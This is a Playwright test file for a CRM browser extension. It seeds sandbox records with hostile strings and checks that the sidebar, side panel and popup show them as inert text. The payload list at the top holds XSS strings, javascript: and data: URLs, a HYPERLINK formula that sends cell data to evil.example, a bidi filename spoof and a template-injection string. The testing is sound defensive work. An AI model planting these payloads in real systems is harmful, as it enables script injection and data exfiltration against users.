import { expect, type Frame, type Page, test } from '@playwright/test';
import { hostOf } from './expected.ts';
import { connect, openScene, openSidebar, type Scene, showEverything, showOnAllSites, tabId, visit } from './scene.ts';

/** Whatever stands in the CRM is text: it never runs, never leads anywhere but to where it may, never breaks the view. */
const PAYLOADS = {
  script: '<script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">',
  'script URL': 'javascript:document.title="owned"//',
  'data URL': 'data:text/html,<script>alert(1)</script>',
  'direction override': '\u202Egnp.exe\u2066 \u2067evil',
  'lone surrogate': 'half \ud800 a \udc00 pair',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's
  template: '{{constructor.constructor("alert(1)")()}} ${7*7}',
  'a megabyte': 'W'.repeat(1_000_000),
  'a megabyte of lines': 'line\n'.repeat(200_000),
} as const;
const MAY_LEAD_TO = /^(?:https?:|mailto:|tel:)/;

let scene: Scene;
let host = '';
let accountId = '';

test.beforeAll(async () => {
  scene = await openScene({ sandbox: { accounts: 60 } });
  const { org } = scene.sandbox;
  const row = org.rows('Account').find((one) => hostOf(one)?.startsWith('www.'));
  if (!row) throw new Error('no company with a site');
  host = hostOf(row) ?? '';
  accountId = row.Id;
  const day = '2026-01-09';
  for (const [what, text] of Object.entries(PAYLOADS)) {
    // What a CRM would never hold in a short field stands in the one that shows the most.
    const short = text.length > 1000 ? null : text;
    const mail = `${encodeURIComponent(what)}@${host.replace('www.', '')}`;
    org.insert('Contact', { AccountId: accountId, LastName: text, Title: short, Department: short, Email: short, Phone: short });
    org.insert('Opportunity', {
      AccountId: accountId,
      Name: text,
      StageName: short ?? 'Prospecting',
      CloseDate: day,
      Amount: 1e15,
    });
    org.insert('Opportunity', { AccountId: accountId, Name: text, StageName: 'Closed Won', CloseDate: day });
    org.insert('Task', { WhatId: accountId, Subject: text, Priority: short, Status: 'Not Started', ActivityDate: day });
    org.insert('Task', { WhatId: accountId, Subject: text, Status: 'Completed', ActivityDate: day });
    org.insert('Lead', { LastName: text, Company: short, Title: short, Email: mail, Website: `https://${host}`, Status: short });
    org.insert('Account', { Name: text, ParentId: accountId, Type: short, BillingCity: short });
  }
  org.update('Account', accountId, {
    ...{ Name: PAYLOADS.script, Type: PAYLOADS['script URL'], Industry: PAYLOADS['a megabyte'] },
    ...{ Phone: PAYLOADS.formula, BillingCity: PAYLOADS['direction override'], BillingCountry: PAYLOADS['lone surrogate'] },
  });
  await showOnAllSites(await connect(scene));
});
test.afterAll(async () => {
  await scene?.close();
});

/** Judged by effects: what was loaded, where links lead, how large things are, and not by how anything is escaped. */
async function expectHarmless(view: Page | Frame, width: number): Promise<void> {
  const seen = await view.evaluate(() => ({
    title: document.title,
    links: [...document.querySelectorAll('a')].map((link) => link.href),
    foreign: document.querySelectorAll('#root :is(img, script, iframe, object, embed, form[action], style, link, base)').length,
    handlers: [...document.querySelectorAll('*')].filter((one) => [...one.attributes].some(({ name }) => name.startsWith('on')))
      .length,
    wide: document.documentElement.scrollWidth,
    tallest: Math.max(...[...document.querySelectorAll('li')].map((row) => row.getBoundingClientRect().height)),
    longest: Math.max(
      ...[...document.querySelectorAll('*')].filter((one) => one.children.length === 0).map((one) => one.textContent.length),
    ),
    text: document.body.textContent,
    titles: [...document.querySelectorAll('[title]')].map((one) => one.getAttribute('title') ?? ''),
  }));
  expect(seen.title).toBe('Sidelight');
  expect(seen.links.filter((link) => !MAY_LEAD_TO.test(link))).toEqual([]);
  expect(seen.links.filter((link) => /evil/.test(new URL(link).host))).toEqual([]);
  expect([seen.foreign, seen.handlers]).toEqual([0, 0]);
  expect(seen.wide, 'wider than its window').toBeLessThanOrEqual(width);
  expect(seen.tallest, 'a row as tall as a page').toBeLessThan(260);
  expect(seen.longest, 'a text as long as it came').toBeLessThan(600);
  for (const text of [seen.text, ...seen.titles]) {
    expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(text.isWellFormed()).toBe(true);
  }
}

async function expectAsText(view: Page | Frame): Promise<void> {
  const links = view.getByRole('list', { name: 'Contacts' }).getByRole('link');
  await expect(links.filter({ hasText: '<script>document.title="owned"</script>' }).first()).toBeVisible();
  await expect(links.filter({ hasText: '=HYPERLINK(' }).first()).toBeVisible();
  await expect(links.filter({ hasText: '{{constructor' }).first()).toBeVisible();
}

test('the sidebar in a page shows it as text', async () => {
  const page = await visit(scene, host);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => dialogs.push(dialog.message()));
  const frame = await openSidebar(page);
  await expect(frame.getByRole('heading', { level: 1 })).toContainText('<script>');
  await showEverything(frame);
  await expectAsText(frame);
  await expectHarmless(frame, 380);
  expect(dialogs).toEqual([]);
  await page.close();
});

test("the browser's side panel shows it as text, however narrow it is", async () => {
  const panel = await scene.open('sidepanel.html');
  await panel.setViewportSize({ width: 300, height: 800 });
  const page = await visit(scene, host);
  await expect(panel.getByRole('heading', { level: 1 })).toContainText('<script>');
  await showEverything(panel);
  await expectAsText(panel);
  await expectHarmless(panel, 300);
  await panel.close();
  await page.close();
});

test('the popup shows it as text', async () => {
  const page = await visit(scene, host);
  const popup = await scene.open(`popup.html?tab=${await tabId(scene, page)}`);
  await expect(popup.getByRole('heading', { level: 1 })).toContainText('<script>');
  await showEverything(popup);
  await expectAsText(popup);
  await expectHarmless(popup, popup.viewportSize()?.width ?? 0);
  await popup.close();
  await page.close();
});
